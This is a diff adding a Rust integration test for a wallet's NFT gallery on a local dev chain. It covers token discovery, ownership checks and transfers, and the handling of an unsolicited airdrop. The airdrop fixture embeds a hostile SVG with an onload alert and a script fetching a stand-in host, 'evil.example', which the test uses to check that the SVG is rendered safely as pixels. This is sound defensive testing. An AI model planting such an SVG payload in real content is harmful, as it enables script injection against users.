@@ -1,0 +1,144 @@
+//! NFTs found from the chain alone, on a real anvil dev chain, ownership checked with foundry's `cast`:
+//! the store's OpenZeppelin ERC-721 (loyalty cards minted as one ERC-2309 batch, a receipt minted
+//! later), its ERC-1155 tickets (single and batch mints); an NFT transferred away disappears and shows
+//! at its new owner; an ERC-20 transfer is no NFT; an airdropped collection nobody listed stays
+//! "unreviewed" with none of its metadata read until the shopper chooses to see it, and its hostile SVG
+//! then arrives as pixels.
+
+use alloy::primitives::{Address, U256};
+use base64::Engine as _;
+use tender_devtools::devnet::{self, OpenCollectible, STORE_CARDS, STORE_TICKETS, StoreCards};
+use wallet_core::SecretString;
+use wallet_core::nft::Gallery;
+use wallet_core::store::{NftStandard, Review};
+
+use crate::DevChain;
+use crate::cast::cast;
+use crate::session::{PASSWORD, dev_phrase, pw, session};
+
+fn ids(g: &Gallery, contract: Address) -> Vec<String> {
+    g.shown.iter().filter(|i| i.contract == contract).map(|i| i.token_id.clone()).collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nfts_are_found_owned_and_shown_safely() {
+    let chain = DevChain::start(false).await;
+    let rpc = chain.devnet.info().rpc_url.clone();
+    let tmp = tempfile::tempdir().expect("tmp");
+    let s = session(tmp.path(), &rpc);
+    s.restore(dev_phrase(), SecretString::default(), &pw(PASSWORD), 1, None, |_, _| {}).await.expect("restore");
+    let me = s.account(0).await.expect("account").address;
+    let friend = s.account(1).await.expect("account").address;
+
+    let g = s.nfts(0).await.expect("gallery");
+    assert!(g.live && g.unreviewed.is_empty() && g.hidden == 0, "{g:?}");
+    assert_eq!(ids(&g, STORE_CARDS), ["0", "1", "2"], "the ERC-2309 batch of three");
+    assert_eq!(ids(&g, STORE_TICKETS), ["1", "2", "3"], "TransferSingle and TransferBatch");
+    for item in &g.shown {
+        assert_eq!(item.review, Review::Listed);
+        assert_eq!(item.media, "shown", "{item:?}");
+        let png = item.image.as_deref().and_then(|i| i.strip_prefix("data:image/png;base64,")).expect("a PNG");
+        let bytes = base64::engine::general_purpose::STANDARD.decode(png).expect("base64");
+        assert!(bytes.starts_with(b"\x89PNG"), "pixels the wallet encoded");
+        // What cast reads is what the wallet says is owned.
+        let contract = item.contract.to_checksum(None);
+        let me = me.to_checksum(None);
+        match item.standard {
+            NftStandard::Erc721 => {
+                let owner = cast(&["call", "--rpc-url", &rpc, &contract, "ownerOf(uint256)(address)", &item.token_id]);
+                assert_eq!(owner, me, "card {}", item.token_id);
+            }
+            NftStandard::Erc1155 => {
+                let balance = cast(&[
+                    "call",
+                    "--rpc-url",
+                    &rpc,
+                    &contract,
+                    "balanceOf(address,uint256)(uint256)",
+                    &me,
+                    &item.token_id,
+                ]);
+                assert_eq!(balance, item.amount, "ticket {}", item.token_id);
+            }
+        }
+    }
+    let card = g.shown.iter().find(|i| i.contract == STORE_CARDS).expect("a card");
+    assert_eq!(card.name.as_deref(), Some("Loyalty card #0"));
+    assert_eq!(card.attributes, [("Kind".to_owned(), "Loyalty card".to_owned())]);
+    assert_eq!(g.shown.iter().find(|i| i.contract == STORE_TICKETS).map(|t| t.amount.as_str()), Some("2"));
+
+    // Card 1 goes to the friend: gone here, there on the friend's side. An ERC-20 transfer is no NFT.
+    StoreCards::new(STORE_CARDS, chain.provider_for(0))
+        .transferFrom(me, friend, U256::from(1u8))
+        .send()
+        .await
+        .expect("send")
+        .get_receipt()
+        .await
+        .expect("receipt");
+    chain.send_store(1, me, U256::from(5u8)).await;
+    // The shop mints a receipt to the shopper.
+    let shop = alloy::providers::ProviderBuilder::new()
+        .wallet(alloy::network::EthereumWallet::from(
+            devnet::FACILITATOR_KEY.parse::<alloy::signers::local::PrivateKeySigner>().expect("key"),
+        ))
+        .connect_http(rpc.parse().expect("url"));
+    StoreCards::new(STORE_CARDS, &shop)
+        .mintReceipt(me, "A-1001".into())
+        .send()
+        .await
+        .expect("mint")
+        .get_receipt()
+        .await
+        .expect("receipt");
+    let g = s.nfts(0).await.expect("gallery");
+    assert_eq!(ids(&g, STORE_CARDS), ["0", "2", "7"], "card 1 left; receipt 7 (after 7 cards) arrived");
+    let receipt = g.shown.iter().find(|i| i.token_id == "7").expect("receipt");
+    assert_eq!(receipt.name.as_deref(), Some("Receipt #7"));
+    assert!(receipt.description.as_deref().is_some_and(|d| d.contains("A-1001")));
+    let theirs = s.nfts(1).await.expect("friend's gallery");
+    assert_eq!(ids(&theirs, STORE_CARDS), ["3", "1"], "their own card, then the one received");
+
+    // An airdrop nobody asked for: an open collection minting to the shopper with a hostile SVG.
+    let dropper = chain.provider_for(5);
+    let spam = OpenCollectible::deploy(&dropper).await.expect("deploy");
+    let svg = r##"<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50" onload="alert(1)"><script>fetch('https://evil.example')</script><rect width="50" height="50" fill="#ff0000"/></svg>"##;
+    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
+    let doc = format!(
+        r#"{{"name":"Claim 1000 STORE at evil.example","image":"data:image/svg+xml;base64,{}"}}"#,
+        b64(svg.as_bytes())
+    );
+    OpenCollectible::new(*spam.address(), &dropper)
+        .mint(me, U256::from(42u8), format!("data:application/json;base64,{}", b64(doc.as_bytes())))
+        .send()
+        .await
+        .expect("mint")
+        .get_receipt()
+        .await
+        .expect("receipt");
+    let g = s.nfts(0).await.expect("gallery");
+    assert_eq!(g.unreviewed.len(), 1, "{g:?}");
+    let dropped = &g.unreviewed[0];
+    assert_eq!((dropped.review, dropped.media.as_str()), (Review::Unreviewed, "not_loaded"));
+    assert_eq!((dropped.name.as_ref(), dropped.image.as_ref()), (None, None), "nothing of its metadata is read");
+    assert_eq!(dropped.collection.as_deref(), Some("Free Airdrop"), "its contract's name, labelled as its own");
+    assert!(ids(&g, *spam.address()).is_empty());
+
+    // The shopper chooses to see it: its SVG arrives as pixels, red where the rectangle is.
+    s.review_nft_collection(*spam.address(), true).await.expect("review");
+    let g = s.nfts(0).await.expect("gallery");
+    let shown = g.shown.iter().find(|i| i.contract == *spam.address()).expect("shown now");
+    let png = shown.image.as_deref().and_then(|i| i.strip_prefix("data:image/png;base64,")).expect("pixels");
+    let img = image::load_from_memory(&base64::engine::general_purpose::STANDARD.decode(png).expect("b64"))
+        .expect("png")
+        .to_rgba8();
+    assert_eq!(img.get_pixel(img.width() / 2, img.height() / 2).0, [255, 0, 0, 255]);
+    s.review_nft_collection(*spam.address(), false).await.expect("hide");
+    let g = s.nfts(0).await.expect("gallery");
+    assert_eq!((g.hidden, g.unreviewed.len()), (1, 0));
+    assert!(matches!(
+        s.review_nft_collection(Address::repeat_byte(9), true).await,
+        Err(wallet_core::Error::UnknownCollection { .. })
+    ));
+    chain.stop();
+}
